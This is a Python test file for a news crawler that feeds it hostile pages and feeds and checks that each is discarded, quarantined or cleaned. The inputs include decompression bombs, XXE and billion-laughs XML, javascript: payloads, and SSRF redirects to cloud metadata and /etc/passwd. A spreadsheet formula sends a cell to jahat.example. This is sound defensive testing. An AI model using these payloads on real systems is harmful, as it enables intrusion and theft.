"""Every kind of hostile input, a line for each: how a newsroom serves it, and the outcome that it must come to."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from typing import Any, NamedTuple

from tests.internet import PUBLIC
from tests.newsroom import Newsroom, hostile
from tests.newsroom.generated import generated_articles
from tests.newsroom.server import Answer, Response

TIMEOUT = 15  # seconds for one request: far more than a healthy article takes from feed to search
STORIES = generated_articles(60, seed=6012, languages=("id",))
RUSSIAN = generated_articles(4, seed=6013, languages=("ru",))
SECRET = "geheim77"
FORMULA = '=HYPERLINK("http://jahat.example/?"&A1,"Klik") <script>alert(1)</script>'


def text_of(number: int) -> tuple[str, ...]:
    return STORIES[number].body


def russian(number: int) -> str:
    one = RUSSIAN[number]
    return hostile.page(one.title, one.body)


class Page(NamedTuple):
    """A bad page: its answer under the path it is given, its outcome, what the index must hold of it."""

    answer: Callable[[str], Answer]
    outcome: str  # a regular expression for all of it
    kept: Callable[[dict[str, Any]], object] = lambda document: None


def holds(number: int) -> Callable[[dict[str, Any]], None]:
    """The article is there, whole: title and each paragraph."""

    def check(document: dict[str, Any]) -> None:
        body = " ".join(document["body"].split())
        assert all(" ".join(one.split()) in body for one in text_of(number))

    return check


def is_russian(number: int) -> Callable[[dict[str, Any]], None]:
    def check(document: dict[str, Any]) -> None:
        assert document["title"] == RUSSIAN[number].title
        assert RUSSIAN[number].body[0] in document["body"]

    return check


def has_no_nul(document: dict[str, Any]) -> None:
    holds(2)(document)
    assert document["title"] == "Judul dengan nol"


def is_clean(document: dict[str, Any]) -> None:
    holds(3)(document)
    assert document["title"] == "Kantor terbuka"
    json.dumps(document, ensure_ascii=False).encode()


def has_a_short_title(document: dict[str, Any]) -> None:
    holds(4)(document)
    assert document["title"].startswith("Panjang sekali")
    assert len(document["title"]) <= 1000


def has_no_script(document: dict[str, Any]) -> None:
    holds(6)(document)
    assert "javascript:" not in json.dumps({**document, "body": ""})


def redirects(times: int, number: int) -> Callable[[str], Answer]:
    """So many redirects, then the page."""

    def begun(path: str) -> Answer:
        def answer(request: Any) -> Response:
            step = int(request.target.partition("?n=")[2] or 0)
            if step < times:
                return Response(302, (("Location", f"{path}?n={step + 1}"),))
            return Response(200, (hostile.HTML,), hostile.page(STORIES[number].title, text_of(number)).encode())

        return answer

    return begun


def to(answer: Callable[[], Answer]) -> Callable[[str], Answer]:
    """An answer that does not depend on its own path."""
    return lambda _: answer()


DEEP = "<div>" * 10_000
SCRIPTS = (
    "<link rel=canonical href='javascript:alert(1)'><meta property='og:url' content='javascript:alert(2)'>"
    "<meta property='og:image' content='javascript:alert(3)'>"
    '<script type="application/ld+json">{"@type":"NewsArticle","image":"javascript:alert(4)",'
    '"url":"javascript:alert(5)","author":{"name":"Ani","url":"javascript:alert(6)"}}</script>'
)
LINK = "<a href='javascript:alert(7)'>Baca juga</a>"
UNREACHABLE = "discarded: unreachable"  # half a day later, of an entry with neither title nor text
TOO_LARGE = r"quarantined: .* is larger than 10,000,000 bytes .*"
UNASKED = r"quarantined: .* came encoded as '{}', though only gzip, deflate was accepted"

PAGES: dict[str, Page] = {
    "a slow drip": Page(to(lambda: hostile.slow_drip(b"kata " * 5000, 1, 0.3)), UNREACHABLE),
    "an answer that never comes": Page(to(hostile.never_answers), UNREACHABLE),
    "a gzip bomb": Page(to(hostile.gzip_bomb), TOO_LARGE),
    "a brotli bomb, unasked": Page(to(hostile.brotli_bomb), UNASKED.format("br")),
    "a zstd bomb, unasked": Page(to(hostile.zstd_bomb), UNASKED.format("zstd")),
    "broken gzip": Page(to(lambda: hostile.broken_gzip(b"Berita. " * 9000)), UNREACHABLE),
    "an endless body": Page(to(hostile.endless_body), TOO_LARGE),
    "a body announced above 10 MB": Page(to(lambda: hostile.html(b" " * 10_000_001)), TOO_LARGE),
    "endless headers": Page(to(hostile.endless_headers), "quarantined: .* sends a head without end.*"),
    "a binary body": Page(to(hostile.binary_body), "discarded: not-html"),
    "a wrong charset": Page(to(lambda: hostile.wrong_charset(russian(0))), "indexed", is_russian(0)),
    "no charset": Page(to(lambda: hostile.no_charset(russian(1))), "indexed", is_russian(1)),
    "a redirect loop": Page(hostile.redirect_loop, "quarantined: .* led through more than 5 redirects.*"),
    "five redirects": Page(redirects(5, 0), "indexed", holds(0)),
    "six redirects": Page(redirects(6, 1), "quarantined: .* led through more than 5 redirects.*"),
    "a redirect to a private address": Page(
        to(lambda: hostile.redirect_to("http://169.254.169.254/latest/meta-data/")), "discarded: private-address"
    ),
    "a redirect to a file": Page(to(lambda: hostile.redirect_to("file:///etc/passwd")), "discarded: bad-url"),
    "a redirect to a script": Page(to(lambda: hostile.redirect_to("javascript:alert(1)")), "discarded: bad-url"),
    "NULs": Page(
        to(lambda: hostile.html(hostile.page("Judul\0 dengan nol", [f"\0{one}\0" for one in text_of(2)]))),
        "indexed",
        has_no_nul,
    ),
    "more NULs than a text has": Page(to(hostile.nul_bytes), "discarded: not-html"),
    "lone surrogates and control characters": Page(
        to(lambda: hostile.html(hostile.page("Kantor\ud83d ter\u202ebuka\x1b", text_of(3), before="\udc00\x07&#x1b;"))),
        "indexed",
        is_clean,
    ),
    "a title of 100 kB": Page(
        to(lambda: hostile.html(hostile.page("Panjang sekali " * 7000, text_of(4)))), "indexed", has_a_short_title
    ),
    "HTML 10,000 levels deep": Page(
        to(lambda: hostile.html(hostile.page("Dalam sekali", text_of(5), after=DEEP))), "indexed", holds(5)
    ),
    "javascript: links": Page(
        to(lambda: hostile.html(hostile.page("Skrip", text_of(6), head=SCRIPTS, after=LINK))),
        "indexed",
        has_no_script,
    ),
    "a formula and a script for a title": Page(
        to(lambda: hostile.html(hostile.page(FORMULA, text_of(7)))), "indexed", holds(7)
    ),
    "a header that forges a log line": Page(
        to(lambda: lambda _: Response(200, (("Content-Encoding", "br\x85\x9b2J forged"),), b"x")),
        r"quarantined: .* came encoded as 'br\\x85\\x9b2J forged'.*",
    ),
}

# Addresses that an entry's link may have, {inner} being the port of a service on this machine's loopback. The first two
# names resolve to a private address, the third to a public one at first and to loopback when it is asked again.
NAMES = {
    "dalam.example": ["10.0.0.8"],
    "peta.example": ["::ffff:10.0.0.8"],
    "berputar.example": [PUBLIC, "127.0.0.1"],
}
PRIVATE = (
    "http://127.0.0.1:{inner}/", "http://localhost:{inner}/", "http://2130706433:{inner}/", "http://0x7f.1:{inner}/",
    "http://0177.0.0.1:{inner}/", "http://0.0.0.0:{inner}/", "http://[::1]:{inner}/", "http://[::]:{inner}/",
    "http://[::ffff:127.0.0.1]:{inner}/", "http://[::ffff:7f00:1]:{inner}/", "http://[64:ff9b::7f00:1]:{inner}/",
    "http://[2002:7f00:1::]:{inner}/", "http://10.0.0.1/", "http://172.16.0.1/", "http://192.168.0.1/",
    "http://100.64.0.1/", "http://169.254.169.254/latest/meta-data/", "http://[fe80::1]/", "http://[fd00::1]/",
    "http://224.0.0.1/", "http://239.255.255.250/", "http://[ff02::1]/", "http://255.255.255.255/",
    "http://dalam.example/", "http://peta.example/", "http://berputar.example:{inner}/",
)  # fmt: skip


class Source(NamedTuple):
    """A bad feed: its answer, given pages that its entries may lead to; how its poll fails (a kind of failure, "" for
    not at all) and what its operator reads; how many entries come of it."""

    answer: Callable[[list[str]], Answer]
    kind: str
    said: str  # a regular expression for some of the error or of the problems
    entries: int = 0
    kept: Callable[[dict[str, Any]], object] = lambda document: None


def title_is_short(document: dict[str, Any]) -> None:
    assert len(document["title"]) <= 1000


def xml(title: str, link: str, prolog: str = "") -> Answer:
    return hostile.bare_feed([], prolog=prolog, extra=f"<item><title>{title}</title><link>{link}</link></item>")


NULS = "<item><title>\0&#0;&#xd800;</title></item>"
SCHEMES = ("ftp://a.example/x", "file:///etc/passwd", "gopher://a.example/", "data:text/html,x", "javascript:alert(1)")

SOURCES: dict[str, Source] = {
    "a feed that drips": Source(lambda _: hostile.slow_drip(b"<rss>" * 9000, 1, 0.3), "timeout", "not answer whole"),
    "a feed that is a gzip bomb": Source(
        lambda _: hostile.gzip_bomb(content_type="text/xml"), "refused", "larger than 10,000,000 bytes"
    ),
    "a feed that is a brotli bomb": Source(lambda _: hostile.brotli_bomb("text/xml"), "other", "came encoded as 'br'"),
    "a feed that is a zstd bomb": Source(lambda _: hostile.zstd_bomb(content_type="text/xml"), "other", "'zstd'"),
    "a feed without end": Source(lambda _: hostile.endless_body("text/xml"), "refused", "larger than 10,000,000 bytes"),
    "a feed behind endless headers": Source(lambda _: hostile.endless_headers(), "refused", "head without end"),
    "a feed that leads in a circle": Source(lambda _: hostile.redirect_loop("/putar"), "redirect", "more than 5 redir"),
    "a feed that leads inside": Source(
        lambda _: hostile.redirect_to("http://192.168.0.1/feed"), "refused", "192.168.0.1, which is not on the public"
    ),
    "a feed of bytes": Source(lambda _: hostile.binary_body("text/xml"), "not-a-feed", "is no feed"),
    "a feed of a million items": Source(hostile.million_items, "", "more than 5,000 entries", 2),
    "a feed of a million links": Source(
        lambda pages: hostile.bare_feed([*pages, *(f"http://x.example/{n}" for n in range(1_000_000))]),
        "refused",
        "larger than 10,000,000 bytes",
    ),
    "billion laughs": Source(lambda pages: hostile.billion_laughs(pages[0]), "", "", 1, title_is_short),
    "an external entity": Source(lambda pages: hostile.external_entity(link=pages[0]), "", "", 1),
    "NULs and surrogates in a feed": Source(
        lambda pages: hostile.bare_feed(pages[:1], title="N\0l \ud800", extra=NULS),
        "",
        "",
        1,
    ),
    "a title of 100 kB in a feed": Source(lambda pages: xml("kata " * 20_000, pages[0]), "", "", 1, title_is_short),
    "schemes that are no web": Source(
        lambda pages: hostile.bare_feed([*SCHEMES, pages[0]]), "", "entry 1 is left out: .*http and https are read", 1
    ),
}


def page_url(name: str) -> str:
    number = list(PAGES).index(name)
    return f"http://halaman{number}.example/buruk/{number}"


def links_of(name: str) -> list[str]:
    """The pages that a bad feed may lead to: harmless ones."""
    number = list(SOURCES).index(name)
    return [f"http://baik{number}.example/baik/{number}/{each}" for each in range(2)]


LOOKALIKES = (
    "http://antara.example/sama",
    "http://\u0430ntara.example/sama",
)  # the second's first letter is Cyrillic
CREDENTIALS = f"http://pengguna:{SECRET}@kredensial.example/rahasia"


def serve(newsroom: Newsroom, inner: int) -> Iterator[tuple[str, str, list[str]]]:
    """Puts every line of the tables on the air: its name, its feed, the pages whose outcomes are awaited."""
    newsroom.serve("/robots.txt", Response(200, (("Content-Type", "text/plain"),), b"User-agent: *\n", close=True))
    newsroom.serve("/putar", hostile.redirect_loop("/putar"))
    for number, (name, page) in enumerate(PAGES.items()):
        newsroom.serve(f"/buruk/{number}", page.answer(f"/buruk/{number}"))
        newsroom.serve(f"/buruk/{number}.xml", hostile.bare_feed([page_url(name)]))
        yield name, f"http://umpan{number}.example/buruk/{number}.xml", [page_url(name)]
    for number, (name, source) in enumerate(SOURCES.items()):
        links = links_of(name)
        for each in range(len(links)):
            story = STORIES[10 + 2 * number + each]
            newsroom.serve(f"/baik/{number}/{each}", hostile.html(hostile.page(story.title, story.body)))
        newsroom.serve(f"/umpan/{number}.xml", source.answer(links))
        yield name, f"http://sumber{number}.example/umpan/{number}.xml", links[: source.entries]
    for path, number in (("/sama", 50), ("/rahasia", 52)):
        newsroom.serve(path, hostile.html(hostile.page(STORIES[number].title, STORIES[number].body)))
    private = [link.format(inner=inner) for link in PRIVATE]
    for name, feed, links in (
        ("private addresses", "alamat", private),
        ("look-alikes", "mirip", list(LOOKALIKES)),
        ("credentials", "rahasia", [CREDENTIALS]),
    ):
        newsroom.serve(f"/{feed}.xml", hostile.bare_feed(links))
        yield name, f"http://{feed}.example/{feed}.xml", links
